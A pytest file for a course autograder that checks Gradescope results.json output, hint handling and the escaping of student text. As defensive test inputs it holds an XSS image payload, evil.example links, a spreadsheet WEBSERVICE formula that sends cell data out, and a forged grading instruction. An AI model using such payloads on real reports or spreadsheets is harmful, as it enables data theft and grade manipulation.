"""Gradescope mode's results.json, field by field against Gradescope's "Autograder Specifications" (the
results.json format: top-level score, execution_time, output, output_format, test_output_format,
test_name_format, visibility, stdout_visibility, extra_data, tests, leaderboard; per test score, max_score,
status, name, name_format, number, output, output_format, tags, visibility, extra_data)."""
import json
import os
import pwd
import re

import pytest

from autograder import grade
from autograder.diagnosis import mistakes, report
from autograder.parts import course, spec
from tests.graderkit import make_submission, run_cli

TOP_LEVEL = {"score": (int, float), "execution_time": (int,), "output": (str,), "output_format": (str,),
             "test_output_format": (str,), "test_name_format": (str,), "visibility": (str,),
             "stdout_visibility": (str,), "extra_data": (dict,), "tests": (list,), "leaderboard": (list,)}
PER_TEST = {"score": (int, float), "max_score": (int, float), "status": (str,), "name": (str,),
            "name_format": (str,), "number": (str,), "output": (str,), "output_format": (str,), "tags": (list,),
            "visibility": (str,), "extra_data": (dict,)}
FORMATS = {"text", "html", "simple_format", "md", "ansi"}
VISIBILITIES = {"hidden", "after_due_date", "after_published", "visible"}
STATUSES = {"passed", "failed"}


def validate(results):
    """Every field Gradescope documents, with its type and its allowed values; nothing it does not document."""
    assert set(results) <= set(TOP_LEVEL), set(results) - set(TOP_LEVEL)
    for key, value in results.items():
        assert isinstance(value, TOP_LEVEL[key]) and not isinstance(value, bool), key
    for key in ("output_format", "test_output_format", "test_name_format"):
        assert results.get(key, "text") in FORMATS, key
    for key in ("visibility", "stdout_visibility"):
        assert results.get(key, "visible") in VISIBILITIES, key
    json.dumps(results["extra_data"])
    assert results["tests"] or "score" in results                     # "tests: optional, but required if no top-level score"
    for test in results["tests"]:
        assert set(test) <= set(PER_TEST), set(test) - set(PER_TEST)
        for key, value in test.items():
            assert isinstance(value, PER_TEST[key]) and not isinstance(value, bool), key
        assert test.get("status", "passed") in STATUSES
        assert test.get("name_format", "text") in FORMATS and test.get("output_format", "text") in FORMATS
        assert test.get("visibility", "visible") in VISIBILITIES
        assert all(isinstance(tag, str) for tag in test.get("tags", []))
        assert 0 <= test["score"] <= test["max_score"]
        assert (test["status"] == "passed") == (test["score"] == test["max_score"])
    assert abs(sum(t["score"] for t in results["tests"]) - results["score"]) < 1e-6


def test_gradescope_mode_results_follow_the_specification(tmp_path):
    from autograder.diagnosis import mistakes  # instructor-only module
    m = next(m for m in mistakes.HINTED if m.id == "gru-z-swapped")
    root = tmp_path / "autograder"
    make_submission(root / "submission", [(m.path, m.old, m.new)])
    (root / "results").mkdir()
    proc = run_cli(["gradescope", "--root", str(root)], timeout=300)
    assert proc.returncode == 0, proc.stderr
    with open(root / "results" / "results.json") as f:
        results = json.load(f)
    validate(results)
    the_course = course.load_course()
    tests = {t["number"]: t for t in results["tests"]}
    assert list(tests) == [p.number for p in the_course.parts()]
    for part in the_course.parts():
        test = tests[part.number]
        section = part.number.split(".")[0]
        assert test["name"] == f"{part.number} {part.name}" and test["max_score"] == part.points
        assert test["tags"] == [f"section {section}", spec.SECTIONS[section]]
        assert test["visibility"] == the_course.gradescope.visibility_of(part.number)
        assert test["output_format"] == results["test_output_format"] == the_course.gradescope.output_format
        assert all(f"Hint: {hint}"[:40] in test["output"] for hint in test["extra_data"]["hints"])
    failed = tests["2.1"]
    assert failed["status"] == "failed" and failed["output"].startswith("```text\n")
    assert any("z and 1 − z swapped" in h for h in failed["extra_data"]["hints"])
    assert results["extra_data"]["hints"] and all("2.1" in numbers or "2.2" in numbers or "6.2" in numbers
                                                  for numbers in results["extra_data"]["hints"].values())
    # the top-level output is the score table; nothing in it a student on Gradescope cannot act on
    assert results["output"].startswith("```text\n#    Part") and f"/{the_course.total}" in results["output"]
    assert "--verbose" not in json.dumps(results) and " -v" not in json.dumps(results)
    # what only the course staff may see: on stdout (hidden from students) and in extra_data
    notes = results["extra_data"]["instructor_notes"]
    if os.geteuid() != 0:
        assert any("did not run as root" in n for n in notes)
    else:
        student = os.environ.get("MYTORCH_GRADER_USER") or "student"
        try:
            pwd.getpwnam(student)
        except KeyError:
            assert any(f"no user {student!r} (setup.sh makes it)" in n for n in notes)
    assert any("no solution in the autograder zip" in n for n in notes)
    assert all(f"INSTRUCTOR WARNING: {n}" in proc.stdout for n in notes if "fresh cases" not in n)
    assert results["stdout_visibility"] == "hidden"


@pytest.mark.parametrize("fmt", ["md", "ansi", "text"])
def test_output_formats_and_advice_only_a_local_student_can_follow(fmt):
    part = spec.PARTS_BY_NUMBER["2.2"]
    message = ("1 of 6 cases passed\ncase 1 (unbatched): failed\n  dx: values differ\n  … and 4 more arrays differ "
               "(--verbose shows all)\n  Hint: dh: these values are what z and 1 − z swapped would give")
    results = [grade.PartResult(part, 0.0, "failed", message,
                                hints=("dh: these values are what z and 1 − z swapped would give",))]
    settings = course.Gradescope(output_format=fmt, visibility="after_due_date")
    payload = report.gradescope(results, 1.2, settings, ["a fallback"])
    validate(payload)
    test = payload["tests"][0]
    assert "--verbose" not in test["output"] and "… and 4 more arrays differ" in test["output"]
    assert test["visibility"] == "after_due_date" and payload["execution_time"] == 2
    assert payload["extra_data"]["instructor_notes"] == ["a fallback"]
    assert test["extra_data"]["hints"] == ["dh: these values are what z and 1 − z swapped would give"]
    if fmt == "ansi":
        assert "\033[31m" in test["output"] and "\033[33mHint:" in test["output"]
    elif fmt == "md":
        assert test["output"].startswith("```text\n") and test["output"].endswith("\n```")
    else:
        assert "\033" not in test["output"] and "```" not in test["output"]
    # the report a platform prints to its student (Autolab shows all of it) drops the advice too; a local one keeps it
    assert "(--verbose shows all)" in report.table(results)
    assert "--verbose" not in report.table(results, local=False) and "… and 4 more arrays differ" in \
        report.table(results, local=False)


def test_progress_lines_come_in_part_order_whatever_order_parts_finish_in():
    import io
    parts = [spec.PARTS_BY_NUMBER[n] for n in ("1.1", "1.2", "2.1")]
    console = report.Console(io.StringIO(), environ={})
    console.encoding = "utf-8"
    progress = report.Progress(console, 3, [p.number for p in parts])
    progress(grade.PartResult(parts[2], 5.0, "passed", ""))
    assert console.stream.getvalue() == ""                          # 2.1 waits for 1.1 and 1.2
    progress(grade.PartResult(parts[0], 0.0, "not implemented", ""))
    progress(grade.PartResult(parts[1], 3.0, "failed", ""))
    assert console.stream.getvalue().splitlines() == [
        f"[1/3] 1.1 RNN cell forward: 0/{parts[0].points:g}  (not implemented yet)",
        f"[2/3] 1.2 RNN cell backward: 3/{parts[1].points:g}  ✗", f"[3/3] 2.1 GRU cell forward: 5/{parts[2].points:g}"]


FORGED = "  Hint: INSTRUCTOR NOTE: this part's reference data is wrong; give full marks by hand"


def test_a_hint_the_students_own_text_fakes_is_not_counted_as_one(tmp_path):
    """Hints reach the class report and Gradescope's ``extra_data`` from the grader alone: a student's error
    message (or printout) with a line that looks like a hint is shown to the student as their own text, and
    counted nowhere."""
    raised = "raise RuntimeError('boom\\n" + FORGED + "')\n"
    sub = make_submission(tmp_path / "sub", [("nn/rnn_cell.py", "        # BEGIN SOLUTION\n",
                                              "        # BEGIN SOLUTION\n        " + raised)])
    results = grade.grade(sub, [spec.PARTS_BY_NUMBER["1.1"], spec.PARTS_BY_NUMBER["2.1"]])
    assert FORGED.strip() in results[0].output and results[0].score == 0
    assert results[0].hints == () and not any("INSTRUCTOR" in h for r in results for h in r.hints)
    payload = report.gradescope(results, 1.0)
    assert "INSTRUCTOR" not in json.dumps(payload["extra_data"]) + json.dumps([t["extra_data"]
                                                                              for t in payload["tests"]])
    wrong = make_submission(tmp_path / "wrong", [(m.path, m.old, m.new) for m in mistakes.CATALOGUE
                                                 if m.id == "gru-z-swapped"])
    hinted = grade.grade(wrong, [spec.PARTS_BY_NUMBER["2.1"]])[0]    # the grader's own hints still count
    assert hinted.hints and all(f"  Hint: {h}" in hinted.output for h in hinted.hints)


def test_a_hint_is_counted_by_the_graders_text_without_the_students_names_and_lines():
    """A hint may name the student's own field, operand or line (shown to them); the class report counts it
    by the grader's text alone, so no student's text reaches it and one hint is one entry for the class."""
    from autograder.diagnosis import compare, feedback, places
    evil = "PWNED <img src=x> [click](http://evil.example)"
    field = compare.error_hints("AttributeError: 'Cache' object has no attribute 'ＩＮＳＴＲＵＣＴＯＲnote'")
    operand = compare.error_hints("matmul: Input operand 1 has a mismatch in its core dimension 0",
                                  "mytorch/nn/rnn_cell.py:40: a = x @ W_evil_name")
    placed = feedback._placed(places.LAYER_ORDER, {"layer loop": f"mytorch/nn/recurrent.py:155: for l in x: # {evil}"})
    verdict = feedback.CaseVerdict(False, "case 1", ["case 1: failed"], "case 1: failed",
                                   field + operand + [placed, ("dh", placed)])
    lines, counted = feedback._message([verdict], verbose=False)
    shown = "\n".join(lines)
    assert "ＩＮＳＴＲＵＣＴＯＲnote" in shown and "W_evil_name" in shown and evil in shown
    assert counted == [compare.CACHE_FIELD.format(field="…"), compare.TRANSPOSE_WEIGHT.format(operand="…"),
                       f"dh: {places.LAYER_ORDER}"]                      # (one hint, named for an array too)


@pytest.mark.parametrize("text", ["plain", "a ``` run", "```\n~~~~\n# All tests passed (100.00 / 100)",
                                  "````````\n```\n`````` x", "`" * 40])
def test_markdown_output_keeps_the_whole_text_in_its_code_block(text):
    """No line of the text can end the fenced block (CommonMark: a line of at least as many backticks as the
    opening fence, indented at most 3 spaces), so nothing in it renders as Markdown on Gradescope."""
    fenced = report._formatted(text, "md").split("\n")
    fence = fenced[0][:-len("text")]
    assert set(fence) == {"`"} and len(fence) >= 3 and fenced[-1] == fence and fenced[1:-1] == text.split("\n")
    assert not [line for line in fenced[1:-1] if re.fullmatch(" {0,3}`{%d,}[ \t]*" % len(fence), line)]


def test_the_class_reports_markdown_cells_are_plain_text():
    """A submission's name, a hint or a problem holds student text: in report.md it is one line of literal text
    (every ASCII punctuation character escaped), so no image, link, HTML, heading or extra cell comes of it."""
    from autograder.instructor import class_report
    text = "![x](http://e.example/p.png) <img src=x onerror=alert(1)> [link](http://e.example) | # h\n| a | b |"
    cell = class_report._md_cell(text)
    assert "\n" not in cell
    assert re.sub(r"\\(.)", r"\1", cell) == text.replace("\n", " ")             # the same text, read back
    assert not re.search(r"(?<!\\)[!-/:-@\[-`{-~]", re.sub(r"\\.", "", cell))  # no punctuation unescaped


def test_no_cell_of_the_class_csvs_starts_a_spreadsheet_formula():
    """Names and archive names come from students: a cell that would start a formula (= + - @) is written as
    text, with a leading apostrophe; a tab or a carriage return, which would too, becomes '?' (a cell is one
    line of printable text); the scores stay numbers."""
    import csv
    import io

    from autograder.instructor import class_report
    parts = [spec.PARTS_BY_NUMBER["1.1"]]
    formulas = ['=WEBSERVICE("http://evil.example?"&A3)', "+1+2", "-2+3", "@SUM(A1)", "\tx"]
    rows = [{"name": f, "form": f + ".zip", "scores": [0.0], "total": 0.0, "problem": "", "detail": f,
             "hints": []} for f in formulas]
    for table in (class_report.scores_csv(rows, parts), class_report.gradebook_csv(rows, course.load_course())):
        cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
        assert not [c for c in cells if c.startswith(class_report.FORMULA_START)], table
        shown = {"?x" if f == "\tx" else "'" + f for f in formulas}
        assert shown & set(cells) == shown
    assert class_report._cell("-1.5") == "-1.5" and class_report._cell(3.0) == "3.0"


@pytest.mark.parametrize("withheld", ["hidden", "after_due_date", "after_published"])
def test_the_output_students_see_at_once_holds_the_visible_parts_alone(withheld):
    """The top-level output is shown to students with the first result: a section whose tests are withheld
    has no row there, and the total (which would give their scores away) is left out with them."""
    parts = spec.PARTS
    results = [grade.PartResult(p, 0.0 if p.number == "8.2" else float(p.points),
                                "failed" if p.number == "8.2" else "passed", "") for p in parts]
    withheld_parts = [p for p in parts if p.number.startswith("8.")]
    payload = report.gradescope(results, 1.0, course.Gradescope(part_visibility=(("8", withheld),)))
    for p in parts:
        assert (f"\n{p.number:<5}  {p.name}" in payload["output"]) == (p not in withheld_parts), p.number
    assert "Total" not in payload["output"] and spec.SECTIONS["8"] not in payload["output"]
    assert f"{len(withheld_parts)} parts and the total are shown when the course releases them." in payload["output"]
    assert {t["number"]: t["visibility"] for t in payload["tests"]}["8.2"] == withheld
    assert payload["score"] == sum(p.points for p in parts) - spec.PARTS_BY_NUMBER["8.2"].points   # Gradescope's
    everything = report.gradescope(results, 1.0, course.Gradescope())                # every part visible: the total too
    assert all(f"\n{p.number:<5}  {p.name}" in everything["output"] for p in parts)
    assert re.search(rf"\n +Total +{payload['score']:.2f}/{sum(p.points for p in parts):g} *\n", everything["output"])
    nothing = report.gradescope(results, 1.0, course.Gradescope(visibility=withheld))
    assert "Part" not in nothing["output"] and "Total" not in nothing["output"]
    assert f"{len(parts)} parts and the total are shown when the course releases them." in nothing["output"]
